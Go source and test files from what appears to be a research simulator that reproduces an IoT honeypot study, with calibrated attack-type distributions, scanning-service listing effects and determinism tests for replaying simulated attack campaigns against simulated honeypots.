	"Dionaea":  {Scanning: 1953, Malicious: 13876, Unknown: 1694},
}

// TypeMix is the attack-type distribution for one protocol (Figure 7).
// Weights need not sum to 1; they are normalized when sampled.
type TypeMix map[honeypot.AttackType]float64

// ProtocolTypeMix calibrates Figure 7's shape: UDP protocols are dominated
// by DoS ("More than 80% of the total attacks [on U-Pot] were a part of the
// DoS attacks", Section 5.1.3); TCP protocols see brute force, malware
// deployment and data poisoning.
var ProtocolTypeMix = map[iot.Protocol]TypeMix{
	iot.ProtoTelnet: {honeypot.AttackScan: 0.28, honeypot.AttackBruteForce: 0.38,
		honeypot.AttackDictionary: 0.12, honeypot.AttackMalware: 0.22},
	iot.ProtoSSH: {honeypot.AttackScan: 0.22, honeypot.AttackBruteForce: 0.40,
		honeypot.AttackDictionary: 0.16, honeypot.AttackMalware: 0.22},
	iot.ProtoMQTT: {honeypot.AttackScan: 0.40, honeypot.AttackPoisoning: 0.45,
		honeypot.AttackDoS: 0.15},
	iot.ProtoAMQP: {honeypot.AttackScan: 0.30, honeypot.AttackPoisoning: 0.50,
		honeypot.AttackDoS: 0.20},
	iot.ProtoXMPP: {honeypot.AttackScan: 0.30, honeypot.AttackBruteForce: 0.45,
		honeypot.AttackDictionary: 0.10, honeypot.AttackPoisoning: 0.15},
	iot.ProtoCoAP: {honeypot.AttackScan: 0.30, honeypot.AttackPoisoning: 0.20,
		honeypot.AttackDoS: 0.45, honeypot.AttackReflection: 0.05},
	iot.ProtoUPnP: {honeypot.AttackScan: 0.13, honeypot.AttackDoS: 0.82,
		honeypot.AttackReflection: 0.05},
	iot.ProtoHTTP: {honeypot.AttackWebScrape: 0.40, honeypot.AttackBruteForce: 0.25,
		honeypot.AttackDictionary: 0.10, honeypot.AttackDoS: 0.15, honeypot.AttackMalware: 0.10},
	iot.ProtoSMB: {honeypot.AttackExploit: 0.50, honeypot.AttackMalware: 0.35,
		honeypot.AttackScan: 0.15},
	iot.ProtoS7: {honeypot.AttackPoisoning: 0.45, honeypot.AttackDoS: 0.25,
		honeypot.AttackScan: 0.30},
	iot.ProtoModbus: {honeypot.AttackPoisoning: 0.50, honeypot.AttackScan: 0.50},
	iot.ProtoFTP: {honeypot.AttackBruteForce: 0.45, honeypot.AttackDictionary: 0.20,
		honeypot.AttackMalware: 0.20, honeypot.AttackScan: 0.15},
}

// ExperimentDays is the measurement month length (April 2021).
const ExperimentDays = 30

// logAmplification estimates how many honeypot log events one planned
// attack conversation produces per protocol, given the type mixes above:
// a UDP DoS burst is 8-16 datagrams (one event each), an S7 job flood wedges
// the device after ~65 logged jobs, an SSH dictionary run logs every attempt.
// The planner divides its per-day quotas by these so the *logged* volumes —
// which is what Table 7 counts — match the calibration targets.
// Values are measured against the deployed profiles (see EXPERIMENTS.md).
var logAmplification = map[iot.Protocol]float64{
	iot.ProtoTelnet: 1.0,
	iot.ProtoSSH:    1.64,
	iot.ProtoMQTT:   2.25,
	iot.ProtoAMQP:   2.1,
	iot.ProtoXMPP:   2.1,
	iot.ProtoCoAP:   3.45,
	iot.ProtoUPnP:   13.2,
	iot.ProtoHTTP:   2.55,
	iot.ProtoSMB:    1.0,
	iot.ProtoS7:     25.0,
	iot.ProtoModbus: 1.0,
	iot.ProtoFTP:    1.0,
}

// amplificationOverride handles honeypot-specific behaviour: Cowrie accepts
// any credential pair, so a dictionary run ends on its first attempt and
// SSH sessions log exactly one event.
var amplificationOverride = map[string]map[iot.Protocol]float64{
	"Cowrie": {iot.ProtoSSH: 1.0},
}

// LogAmplification exposes the per-protocol factor for reports and tests.
func LogAmplification(p iot.Protocol) float64 {
	if a, ok := logAmplification[p]; ok {
		return a
	}
	return 1.0
}

// LogAmplificationFor returns the factor for a specific honeypot target.
func LogAmplificationFor(honeypotName string, p iot.Protocol) float64 {
	if m, ok := amplificationOverride[honeypotName]; ok {
		if a, ok := m[p]; ok {
			return a
		}
	}
	return LogAmplification(p)
}

// Listing is a scanning-service indexing event (Figure 8's vertical marks):
// after Day, the daily attack rate rises by Boost.
type Listing struct {
	Service string
	Day     int     // 0-based day of the month
	Boost   float64 // additive increase of the daily rate multiplier
}

// PaperListings models the listings the paper marks in Figure 8 (Shodan,
// BinaryEdge and ZoomEye listings, each followed by an upward trend).
var PaperListings = []Listing{
	{Service: "shodan.io", Day: 6, Boost: 0.35},
	{Service: "binaryedge.io", Day: 12, Boost: 0.25},
	{Service: "zoomeye.org", Day: 17, Boost: 0.20},
}

// DoSSpikeDays are the days with major DoS events (Figure 8 marks days 24
// and 26; 0-based: 23 and 25).
var DoSSpikeDays = []int{23, 25}

// dosSpikeBoost is the extra rate multiplier on spike days.
const dosSpikeBoost = 0.9

// DayWeights returns the normalized per-day share of monthly events,
// encoding the Figure 8 shape: flat baseline, a step up after each listing,
// and spikes on the DoS days.
func DayWeights() []float64 {
	w := make([]float64, ExperimentDays)
	for d := range w {
		w[d] = 1.0
		for _, l := range PaperListings {
			if d >= l.Day {
				w[d] += l.Boost
			}
		}
		for _, spike := range DoSSpikeDays {
			if d == spike {
				w[d] += dosSpikeBoost
			}
		}
	}
	var total float64
	for _, v := range w {
		total += v
	}
	for d := range w {
		w[d] /= total
	}
	return w
}

// DayStart returns the UTC start of day d of the experiment month.
func DayStart(d int) time.Time {
	return time.Date(2021, time.April, 1+d, 0, 0, 0, 0, time.UTC)
}

// Infection calibration (Section 5.3): of the 1.8 M misconfigured devices,
// 11,118 appeared as attack sources. The split across where they attacked:
// 1,147 honeypots only, 1,274 telescope only, 8,697 both.
const (
	// InfectedShare is the probability a misconfigured device is infected.
	InfectedShare = 11118.0 / 1832893.0
	// InfectedHoneypotOnly, InfectedTelescopeOnly and the remainder (both)
	// split the infected population.
	InfectedHoneypotOnly  = 1147.0 / 11118.0
	InfectedTelescopeOnly = 1274.0 / 11118.0
)

// Censys-extension calibration (Section 5.3): 1,671 additional attacking
// IoT devices were identified via Censys tags among sources *not* in the
// misconfigured set — i.e. infected exposed-but-configured devices. The
// share is over the configured exposure (Table 4 total minus Table 5
// total), inflated by the ~70% Censys tag coverage so the *found* count
// matches.
const (
	ConfiguredInfectedShare = 1671.0 / (14397929.0 - 1832893.0) / 0.7
	// Their split across targets: 439 honeypots only, 564 telescope only,
	// 668 both.
	ConfiguredHoneypotOnly  = 439.0 / 1671.0
	ConfiguredTelescopeOnly = 564.0 / 1671.0
)

// Tor calibration: 151 unique Tor exit relays scraped HTTP (Section 5.1.6).
const PaperTorExitCount = 151

// Multistage calibration: 267 multistage attacks (Section 5.4).
const PaperMultistageCount = 267
