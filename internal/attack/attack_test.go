package attack

import (
	"context"
	"math"
	"testing"
	"time"

	"openhire/internal/attack/malware"
	"openhire/internal/geo"
	"openhire/internal/honeypot"
	"openhire/internal/intel"
	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/telescope"
)

func TestDayWeightsShape(t *testing.T) {
	w := DayWeights()
	if len(w) != ExperimentDays {
		t.Fatalf("len %d", len(w))
	}
	var total float64
	for _, v := range w {
		total += v
	}
	if math.Abs(total-1) > 1e-9 {
		t.Fatalf("weights sum %f", total)
	}
	// Post-listing days are strictly heavier than pre-listing days.
	if w[10] <= w[3] {
		t.Fatalf("day 10 (%f) not above pre-listing day 3 (%f)", w[10], w[3])
	}
	if w[20] <= w[10] {
		t.Fatalf("day 20 (%f) not above day 10 (%f)", w[20], w[10])
	}
	// DoS spike days stand out against their neighbours.
	if w[23] <= w[22] || w[25] <= w[24] {
		t.Fatalf("spikes missing: w[22..26]=%v", w[22:27])
	}
}

func TestPaperTargetsTotal(t *testing.T) {
	// The paper's Table 7 rows sum to 200,239 while its stated total is
	// 200,209 (a 30-event inconsistency in the original). We reproduce the
	// rows verbatim, so assert the row sum and its distance to the total.
	total := TargetsTotal()
	if total != 200239 {
		t.Fatalf("targets sum %d, want 200,239 (Table 7 rows)", total)
	}
	if diff := total - PaperTotalEvents; diff != 30 {
		t.Fatalf("stated-total delta %d, want 30", diff)
	}
}

func TestPaperSourcePoolsTotal(t *testing.T) {
	scanning := 0
	for _, p := range PaperSourcePools {
		scanning += p.Scanning
	}
	if scanning != 10696 {
		t.Fatalf("scanning pool sum %d, want 10,696", scanning)
	}
}

func TestSourcesPoolsDisjointAndClassed(t *testing.T) {
	s := NewSources(1, nil, geo.NewRDNS(1), intel.NewGreyNoise(1, 0.81))
	scan := s.BuildScanningPool(200)
	mal := s.BuildMaliciousPool(200, nil)
	unk := s.BuildUnknownPool(200)
	seen := make(map[netsim.IPv4]bool)
	for _, pool := range [][]netsim.IPv4{scan, mal, unk} {
		for _, ip := range pool {
			if seen[ip] {
				t.Fatalf("address %v in two pools", ip)
			}
			seen[ip] = true
		}
	}
	if c, _ := s.Class(scan[0]); c != ClassScanningService {
		t.Fatal("scanning class wrong")
	}
	if c, _ := s.Class(mal[0]); c != ClassMalicious {
		t.Fatal("malicious class wrong")
	}
	if svc, ok := s.ServiceOf(scan[0]); !ok || svc == "" {
		t.Fatal("service attribution missing")
	}
}

func TestDeriveInfectedCalibration(t *testing.T) {
	// A boosted /14 universe has enough misconfigured devices for the
	// infected share to be measurable.
	u := iot.NewUniverse(iot.UniverseConfig{
		Seed: 3, Prefix: netsim.MustParsePrefix("90.0.0.0/14"), DensityBoost: 200,
	})
	s := NewSources(2, u, nil, nil)
	infected := s.DeriveInfected()
	if len(infected) == 0 {
		t.Fatal("no infected devices derived")
	}
	var hpOnly, telOnly, both int
	for _, ip := range infected {
		tg, ok := s.InfectedTargetsFor(ip)
		if !ok {
			t.Fatal("missing target mix")
		}
		switch {
		case tg.Honeypots && tg.Telescope:
			both++
		case tg.Honeypots:
			hpOnly++
		case tg.Telescope:
			telOnly++
		}
	}
	if both <= hpOnly || both <= telOnly {
		t.Fatalf("split hp=%d tel=%d both=%d: 'both' must dominate (Section 5.3)",
			hpOnly, telOnly, both)
	}
	// Derivation is cached and deterministic.
	again := s.DeriveInfected()
	if len(again) != len(infected) {
		t.Fatal("second derivation differs")
	}
}

func TestScanningServiceSharesOrdered(t *testing.T) {
	for i := 1; i < len(KnownScanningServices); i++ {
		if KnownScanningServices[i].Share > KnownScanningServices[i-1].Share {
			t.Fatalf("service shares not descending at %d", i)
		}
	}
}

// buildWorld assembles network + honeypots + small universe for campaign
// tests.
func buildWorld(t testing.TB) (*netsim.Network, []*honeypot.Honeypot, *honeypot.Log, *iot.Universe, *netsim.SimClock) {
	clk := netsim.NewSimClock(netsim.ExperimentStart)
	n := netsim.NewNetwork(clk)
	prefix := netsim.MustParsePrefix("90.0.0.0/16")
	u := iot.NewUniverse(iot.UniverseConfig{Seed: 5, Prefix: prefix, DensityBoost: 100})
	n.AddProvider(prefix, u)
	pots, log := honeypot.DeployAll(n, netsim.MustParseIPv4("130.226.56.10"))
	return n, pots, log, u, clk
}

func TestCampaignReplaySmall(t *testing.T) {
	n, pots, log, u, clk := buildWorld(t)
	gn := intel.NewGreyNoise(7, 0.81)
	vt := intel.NewVirusTotal()
	rdns := geo.NewRDNS(7)
	sources := NewSources(7, u, rdns, gn)
	corpus := malware.NewCorpus(7, nil)
	c := NewCampaign(CampaignConfig{
		Seed: 7, Network: n, Honeypots: pots, Universe: u,
		Sources: sources, Corpus: corpus,
		Intensity: 0.01, Workers: 64, Clock: clk,
		GreyNoise: gn, VirusTotal: vt, RDNS: rdns,
	})
	stats := c.Run(context.Background())
	// Planned conversations are amplification-normalized; the honeypot log
	// is what must approach target volume (checked below via counts).
	if stats.EventsRun < 500 {
		t.Fatalf("only %d events ran", stats.EventsRun)
	}
	if stats.EventsRun != stats.EventsPlanned {
		t.Fatalf("planned %d, ran %d", stats.EventsPlanned, stats.EventsRun)
	}

	events := log.Events()
	if len(events) == 0 {
		t.Fatal("honeypots logged nothing")
	}

	// Per-honeypot/protocol counts must follow the Table 7 ordering:
	// HosTaGe Telnet is the largest bucket.
	counts := honeypot.CountByHoneypotProtocol(events)
	if counts["HosTaGe"][iot.ProtoTelnet] == 0 {
		t.Fatal("no HosTaGe telnet events")
	}
	if counts["U-Pot"][iot.ProtoUPnP] == 0 {
		t.Fatal("no U-Pot UPnP events")
	}
	if counts["HosTaGe"][iot.ProtoTelnet] < counts["HosTaGe"][iot.ProtoSMB] {
		t.Fatalf("telnet (%d) below smb (%d): Table 7 shape broken",
			counts["HosTaGe"][iot.ProtoTelnet], counts["HosTaGe"][iot.ProtoSMB])
	}

	// UPnP events must be DoS-dominated (Figure 7 / Section 5.1.3).
	shares := honeypot.TypeSharesByProtocol(events)
	upnp := shares[string(iot.ProtoUPnP)]
	if upnp[honeypot.AttackDoS] < 0.5 {
		t.Fatalf("UPnP DoS share %.2f, want > 0.5", upnp[honeypot.AttackDoS])
	}

	// Credentials captured on Telnet must be dictionary pairs with
	// admin/admin leading (Table 12).
	creds := honeypot.TopCredentials(events, iot.ProtoTelnet, 3)
	if len(creds) == 0 {
		t.Fatal("no telnet credentials captured")
	}
	if creds[0].Username != "admin" || creds[0].Password != "admin" {
		t.Fatalf("top credential %s/%s, want admin/admin", creds[0].Username, creds[0].Password)
	}

	// Daily series must rise after listings (Figure 8 trend).
	daily := honeypot.DailyCounts(events, netsim.ExperimentStart, ExperimentDays)
	early := daily[0] + daily[1] + daily[2]
	late := daily[19] + daily[20] + daily[21]
	if late <= early {
		t.Fatalf("no post-listing surge: early=%d late=%d", early, late)
	}

	// Malware must have been dropped and identifiable via the corpus.
	var malwareSeen bool
	for _, ev := range events {
		if ev.Type == honeypot.AttackMalware && len(ev.Payload) > 0 {
			malwareSeen = true
			break
		}
	}
	if !malwareSeen {
		t.Fatal("no malware payloads captured")
	}

	// Multistage attacks must be detectable.
	scanningIPs := map[netsim.IPv4]bool{}
	for ip := range sources.ScanningServiceIPs() {
		scanningIPs[ip] = true
	}
	ms := honeypot.DetectMultistage(honeypot.FilterBySources(events, scanningIPs))
	if len(ms) == 0 {
		t.Fatal("no multistage attacks detected")
	}

	// Intel registration populates VT with malicious flags.
	c.RegisterIntel()
	flagged := 0
	for _, ev := range events {
		if vt.IsMalicious(ev.Src) {
			flagged++
		}
	}
	if flagged == 0 {
		t.Fatal("no event sources flagged by VirusTotal")
	}
}

func TestDarknetGeneratorTable8Shape(t *testing.T) {
	prefix := netsim.MustParsePrefix("44.0.0.0/8")
	tel := telescope.New(prefix, geo.NewDB(1, nil))
	g := NewDarknetGenerator(DarknetConfig{
		Seed: 9, Telescope: tel, GeoDB: geo.NewDB(1, nil),
		Scale: 1.0 / 500000, Days: 1,
	})
	flows := g.Run()
	if flows == 0 {
		t.Fatal("no flows generated")
	}
	stats := telescope.AggregateByProtocol(tel.Flows())
	if len(stats) != 6 {
		t.Fatalf("protocols %d", len(stats))
	}
	if stats[0].Protocol != iot.ProtoTelnet {
		t.Fatalf("top protocol %s, want telnet (Table 8)", stats[0].Protocol)
	}
	// Telnet volume dominates by more than an order of magnitude.
	if stats[0].Packets < 10*stats[1].Packets {
		t.Fatalf("telnet %d vs next %d: dominance too weak", stats[0].Packets, stats[1].Packets)
	}
}

func TestDarknetSharesInfectedSources(t *testing.T) {
	u := iot.NewUniverse(iot.UniverseConfig{
		Seed: 3, Prefix: netsim.MustParsePrefix("90.0.0.0/14"), DensityBoost: 200,
	})
	s := NewSources(2, u, nil, nil)
	infected := s.DeriveInfected()
	prefix := netsim.MustParsePrefix("44.0.0.0/8")
	tel := telescope.New(prefix, nil)
	g := NewDarknetGenerator(DarknetConfig{
		Seed: 4, Telescope: tel, Sources: s, Scale: 1.0 / 200000, Days: 1,
	})
	g.Run()
	srcSet := make(map[netsim.IPv4]bool)
	for _, ip := range telescope.UniqueSources(tel.Flows()) {
		srcSet[ip] = true
	}
	overlap := 0
	for _, ip := range infected {
		if srcSet[ip] {
			overlap++
		}
	}
	if overlap == 0 {
		t.Fatal("no infected devices appear as telescope sources")
	}
}

func TestExecutorUnknownProtocol(t *testing.T) {
	n := netsim.NewNetwork(nil)
	e := NewExecutor(n, malware.NewCorpus(1, nil))
	if err := e.Execute(context.Background(), honeypot.AttackScan, iot.Protocol("bogus"),
		1, 2, nil); err == nil {
		t.Fatal("bogus protocol accepted")
	}
}

func TestCampaignDeterministicPlanning(t *testing.T) {
	// Two campaigns with the same seed must plan the same number of events.
	run := func() int {
		n, pots, _, u, clk := buildWorld(t)
		sources := NewSources(11, u, nil, nil)
		c := NewCampaign(CampaignConfig{
			Seed: 11, Network: n, Honeypots: pots, Universe: u,
			Sources: sources, Corpus: malware.NewCorpus(1, nil),
			Intensity: 0.002, Workers: 32, Clock: clk,
		})
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		return c.Run(ctx).EventsPlanned
	}
	if a, b := run(), run(); a != b {
		t.Fatalf("planned %d vs %d", a, b)
	}
}
