package attack

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"openhire/internal/honeypot"
)

// digestEvents hashes a canonically sorted event log field by field. The
// digest is a pure function of log content: two replays whose canonical logs
// are element-wise identical hash identically regardless of worker count,
// scheduling, or the conversation execution machinery underneath.
func digestEvents(events []honeypot.Event) string {
	h := sha256.New()
	for i := range events {
		ev := &events[i]
		fmt.Fprintf(h, "%d|%s|%s|%d|%s|%s|%s|%s|%x\n",
			ev.Time.UnixNano(), ev.Honeypot, ev.Protocol, uint32(ev.Src),
			ev.Type, ev.Username, ev.Password, ev.Detail, ev.Payload)
	}
	return hex.EncodeToString(h.Sum(nil))
}

// TestCampaignGoldenDigest pins the replay's canonical honeypot log to the
// digest captured from the pre-conversation-engine goroutine-per-dial
// implementation. Any change to what the honeypots observe — event content,
// flood upgrades, fault classification — moves this digest and must be a
// deliberate, reviewed decision. The golden file is written on first run;
// commit it.
func TestCampaignGoldenDigest(t *testing.T) {
	events := runCampaign(t, 8)
	if len(events) == 0 {
		t.Fatal("campaign produced no events")
	}
	got := digestEvents(events)

	path := filepath.Join("testdata", "campaign_golden.digest")
	want, err := os.ReadFile(path)
	if os.IsNotExist(err) {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("golden digest captured: %s (commit %s)", got, path)
		return
	}
	if err != nil {
		t.Fatal(err)
	}
	if got != strings.TrimSpace(string(want)) {
		t.Fatalf("campaign canonical log diverged from pre-refactor golden:\n got %s\nwant %s",
			got, strings.TrimSpace(string(want)))
	}
}

// TestCampaignShardCountByteIdentity replays the golden campaign at 1, 7 and
// 32 engine shards and requires every run to hash to the pre-refactor golden
// digest. Shard routing is by (src, dst) while every honeypot-side keyed
// observable (flood counters) is bucketed at least as finely, so the shard
// count must be invisible in the canonical log — this is the equivalence
// harness pinning the conversation engine to the goroutine-per-dial
// semantics it replaced.
func TestCampaignShardCountByteIdentity(t *testing.T) {
	path := filepath.Join("testdata", "campaign_golden.digest")
	want, err := os.ReadFile(path)
	if err != nil {
		t.Skipf("golden digest not captured yet: %v", err)
	}
	for _, shards := range []int{1, 7, 32} {
		events := runCampaign(t, shards)
		if got := digestEvents(events); got != strings.TrimSpace(string(want)) {
			t.Fatalf("canonical log at %d shards diverged from golden:\n got %s\nwant %s",
				shards, got, strings.TrimSpace(string(want)))
		}
	}
}
