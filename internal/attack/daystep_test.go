package attack

import (
	"context"
	"encoding/json"
	"testing"

	"openhire/internal/attack/malware"
	"openhire/internal/geo"
	"openhire/internal/intel"
)

// TestCampaignDayStepping replays the month one day at a time — a fresh
// campaign per day with Days: 1, the scheduler state chained through Resume,
// one persistent world — and asserts the concatenated replay is
// indistinguishable from a single uninterrupted Run: identical canonical logs
// and cumulative counters. This is the serve daemon's cadence, so the bound
// must also leave the shared clock where the next day's Set expects it
// (stopping mid-month must not jump to the end of the month).
func TestCampaignDayStepping(t *testing.T) {
	goldenC, goldenLog, ctx := campaignWorld(t, nil, nil)
	goldenStats := goldenC.Run(ctx)
	golden := canonical(goldenLog)
	if len(golden) == 0 {
		t.Fatal("golden run logged nothing")
	}

	// The world persists across steps; the campaign (and the Sources whose
	// stream NewCampaign consumes) is rebuilt each day, replaying the same
	// construction sequence every time.
	n, pots, log, u, clk := buildWorld(t)
	var resume *CampaignResume
	var last Stats
	for day := 0; day < ExperimentDays; day++ {
		gn := intel.NewGreyNoise(7, 0.81)
		vt := intel.NewVirusTotal()
		rdns := geo.NewRDNS(7)
		sources := NewSources(7, u, rdns, gn)
		corpus := malware.NewCorpus(7, nil)
		var captured CampaignResume
		var c *Campaign
		c = NewCampaign(CampaignConfig{
			Seed: 7, Network: n, Honeypots: pots, Universe: u,
			Sources: sources, Corpus: corpus,
			Intensity: 0.01, Workers: 64, Clock: clk,
			GreyNoise: gn, VirusTotal: vt, RDNS: rdns,
			Resume: resume, Days: 1,
			OnDay: func(d, planned, run int) {
				captured = c.SchedulerState(d, planned, run)
			},
		})
		last = c.Run(context.Background())
		if captured.NextDay != day+1 {
			t.Fatalf("step %d captured NextDay %d", day, captured.NextDay)
		}
		resume = &captured
	}

	if last.EventsPlanned != goldenStats.EventsPlanned || last.EventsRun != goldenStats.EventsRun {
		t.Fatalf("cumulative stats diverge: stepped planned=%d run=%d, golden planned=%d run=%d",
			last.EventsPlanned, last.EventsRun, goldenStats.EventsPlanned, goldenStats.EventsRun)
	}
	got := canonical(log)
	if len(got) != len(golden) {
		t.Fatalf("event counts diverge: stepped %d, golden %d", len(got), len(golden))
	}
	for i := range got {
		gotJSON, _ := json.Marshal(got[i])
		wantJSON, _ := json.Marshal(golden[i])
		if string(gotJSON) != string(wantJSON) {
			t.Fatalf("event %d diverges in day-stepped replay:\n  stepped: %s\n  golden:  %s",
				i, gotJSON, wantJSON)
		}
	}
	// The final step closed the month, so the clock sits at day 30.
	if !clk.Now().Equal(DayStart(ExperimentDays)) {
		t.Fatalf("clock after final step: %v, want %v", clk.Now(), DayStart(ExperimentDays))
	}
}

// TestCampaignDaysBoundPartial asserts a Days-bounded Run stopping mid-month
// does not jump the clock to month end: the clock stays inside the month so
// a follow-up bounded Run can continue, and honeypot events carry the days
// actually executed.
func TestCampaignDaysBoundPartial(t *testing.T) {
	n, pots, log, u, clk := buildWorld(t)
	gn := intel.NewGreyNoise(7, 0.81)
	rdns := geo.NewRDNS(7)
	sources := NewSources(7, u, rdns, gn)
	corpus := malware.NewCorpus(7, nil)
	var captured CampaignResume
	var c *Campaign
	c = NewCampaign(CampaignConfig{
		Seed: 7, Network: n, Honeypots: pots, Universe: u,
		Sources: sources, Corpus: corpus,
		Intensity: 0.01, Workers: 64, Clock: clk,
		GreyNoise: gn, RDNS: rdns,
		Days: 3,
		OnDay: func(d, planned, run int) {
			captured = c.SchedulerState(d, planned, run)
		},
	})
	c.Run(context.Background())
	if captured.NextDay != 3 {
		t.Fatalf("bounded run executed through NextDay %d, want 3", captured.NextDay)
	}
	if !clk.Now().Before(DayStart(3).Add(24*60*60*1e9)) || clk.Now().Before(DayStart(2)) {
		t.Fatalf("clock after Days=3 run: %v, want within day 2's schedule", clk.Now())
	}
	if len(canonical(log)) == 0 {
		t.Fatal("bounded run logged nothing")
	}
	for _, ev := range canonical(log) {
		if ev.Time.After(DayStart(3)) {
			t.Fatalf("event stamped %v past the Days bound", ev.Time)
		}
	}
}
