package attack

import (
	"context"
	"encoding/json"
	"testing"

	"openhire/internal/attack/malware"
	"openhire/internal/geo"
	"openhire/internal/honeypot"
	"openhire/internal/intel"
)

// campaignWorld bundles one fresh world plus a campaign configured like
// TestCampaignReplaySmall, with the caller's OnDay/Resume wiring applied.
func campaignWorld(t testing.TB, resume *CampaignResume,
	onDay func(c *Campaign, log *honeypot.Log, day, planned, run int) bool) (*Campaign, *honeypot.Log, context.Context) {
	t.Helper()
	n, pots, log, u, clk := buildWorld(t)
	gn := intel.NewGreyNoise(7, 0.81)
	vt := intel.NewVirusTotal()
	rdns := geo.NewRDNS(7)
	sources := NewSources(7, u, rdns, gn)
	corpus := malware.NewCorpus(7, nil)
	ctx, cancel := context.WithCancel(context.Background())
	var c *Campaign
	cfg := CampaignConfig{
		Seed: 7, Network: n, Honeypots: pots, Universe: u,
		Sources: sources, Corpus: corpus,
		Intensity: 0.01, Workers: 64, Clock: clk,
		GreyNoise: gn, VirusTotal: vt, RDNS: rdns,
		Resume: resume,
	}
	if onDay != nil {
		cfg.OnDay = func(day, planned, run int) {
			if onDay(c, log, day, planned, run) {
				cancel()
			}
		}
	}
	c = NewCampaign(cfg)
	t.Cleanup(cancel)
	return c, log, ctx
}

// canonical returns the log's events in canonical order — the arrival-order-
// insensitive form both checkpointing and comparison rely on.
func canonical(log *honeypot.Log) []honeypot.Event {
	evs := log.Events()
	honeypot.SortEventsCanonical(evs)
	return evs
}

// TestCampaignResumeMidMonth kills the campaign at a mid-month day boundary,
// captures SchedulerState plus the canonical log exactly as the checkpoint
// path does, replays both into a fresh world, and asserts the final canonical
// log and cumulative counters are identical to an uninterrupted run.
func TestCampaignResumeMidMonth(t *testing.T) {
	goldenC, goldenLog, ctx := campaignWorld(t, nil, nil)
	goldenStats := goldenC.Run(ctx)
	golden := canonical(goldenLog)
	if len(golden) == 0 {
		t.Fatal("golden run logged nothing")
	}

	const killDay = 11
	var (
		saved     CampaignResume
		savedEvts []honeypot.Event
	)
	killedC, _, killCtx := campaignWorld(t, nil,
		func(c *Campaign, log *honeypot.Log, day, planned, run int) bool {
			if day != killDay {
				return false
			}
			saved = c.SchedulerState(day, planned, run)
			savedEvts = canonical(log)
			return true
		})
	killedC.Run(killCtx)
	if saved.NextDay != killDay+1 {
		t.Fatalf("capture missed: saved %+v", saved)
	}
	if len(savedEvts) == 0 || len(savedEvts) >= len(golden) {
		t.Fatalf("captured %d events, golden %d: kill day not mid-month", len(savedEvts), len(golden))
	}

	resumedC, resumedLog, resCtx := campaignWorld(t, &saved, nil)
	for _, ev := range savedEvts {
		resumedLog.Append(ev)
	}
	resumedStats := resumedC.Run(resCtx)

	if resumedStats.EventsPlanned != goldenStats.EventsPlanned ||
		resumedStats.EventsRun != goldenStats.EventsRun {
		t.Fatalf("stats diverge: resumed planned=%d run=%d, golden planned=%d run=%d",
			resumedStats.EventsPlanned, resumedStats.EventsRun,
			goldenStats.EventsPlanned, goldenStats.EventsRun)
	}
	got := canonical(resumedLog)
	if len(got) != len(golden) {
		t.Fatalf("event counts diverge: resumed %d, golden %d", len(got), len(golden))
	}
	for i := range got {
		gotJSON, _ := json.Marshal(got[i])
		wantJSON, _ := json.Marshal(golden[i])
		if string(gotJSON) != string(wantJSON) {
			t.Fatalf("event %d diverges after resume:\n  resumed: %s\n  golden:  %s",
				i, gotJSON, wantJSON)
		}
	}
}

// TestCampaignResumeStateDeterministic asserts the captured resume state is a
// pure function of (seed, config, day): two independent runs killed at the
// same boundary marshal identical resume state and identical canonical logs —
// the property that makes checkpoint bytes independent of kill history.
func TestCampaignResumeStateDeterministic(t *testing.T) {
	capture := func() (string, int) {
		var stateJSON string
		var events int
		c, _, ctx := campaignWorld(t, nil,
			func(c *Campaign, log *honeypot.Log, day, planned, run int) bool {
				if day != 5 {
					return false
				}
				st := c.SchedulerState(day, planned, run)
				data, err := json.Marshal(st)
				if err != nil {
					t.Fatal(err)
				}
				stateJSON = string(data)
				events = len(canonical(log))
				return true
			})
		c.Run(ctx)
		return stateJSON, events
	}
	s1, n1 := capture()
	s2, n2 := capture()
	if s1 == "" || s1 != s2 {
		t.Fatalf("resume state bytes differ between identical runs:\n  %s\n  %s", s1, s2)
	}
	if n1 != n2 {
		t.Fatalf("canonical log sizes differ: %d vs %d", n1, n2)
	}
}
