package attack

import (
	"fmt"
	"runtime"
	"sort"
	"sync"

	"openhire/internal/geo"
	"openhire/internal/intel"
	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/prng"
)

// SourceClass is where an attack source belongs in the paper's taxonomy.
type SourceClass uint8

// Source classes (Table 7 columns).
const (
	ClassScanningService SourceClass = iota
	ClassMalicious
	ClassUnknown
)

// String names the class.
func (c SourceClass) String() string {
	switch c {
	case ClassScanningService:
		return "scanning-service"
	case ClassMalicious:
		return "malicious"
	default:
		return "unknown"
	}
}

// ScanningService is one known Internet-scanning operator (Figure 3's
// legend: Stretchoid, Censys, Shodan, BitSight, BinaryEdge, Project Sonar,
// ShadowServer and the rest).
type ScanningService struct {
	Name string
	// Share is the service's fraction of total scanning-service traffic,
	// calibrated so Figure 3's ordering holds.
	Share float64
}

// KnownScanningServices lists the services the paper identifies in
// Section 4.3.1, most active first.
var KnownScanningServices = []ScanningService{
	{"stretchoid.com", 0.17},
	{"censys.io", 0.14},
	{"shodan.io", 0.13},
	{"bitsight.com", 0.09},
	{"binaryedge.io", 0.08},
	{"projectsonar.rapid7.com", 0.07},
	{"shadowserver.org", 0.06},
	{"internettl.org", 0.05},
	{"alphastrike.io", 0.04},
	{"sharashka.io", 0.03},
	{"comsys.rwth-aachen.de", 0.03},
	{"criminalip.com", 0.02},
	{"ipip.net", 0.02},
	{"netsystemsresearch.com", 0.02},
	{"leakix.net", 0.01},
	{"onyphe.io", 0.01},
	{"natlas.io", 0.01},
	{"quadmetrics.com", 0.01},
	{"arbor-observatory.com", 0.005},
	{"zoomeye.org", 0.005},
	{"fofa.so", 0.005},
}

// Sources manages the address pools adversaries and scanners draw from, and
// keeps the ground-truth class of every source for later validation.
type Sources struct {
	src      *prng.Source
	universe *iot.Universe
	rdns     *geo.RDNS
	gn       *intel.GreyNoise

	classes    map[netsim.IPv4]SourceClass
	services   map[netsim.IPv4]string // scanning-service IP → service name
	infected   []netsim.IPv4          // infected misconfigured devices
	infectedAt map[netsim.IPv4]InfectedTargets
	torExits   []netsim.IPv4
}

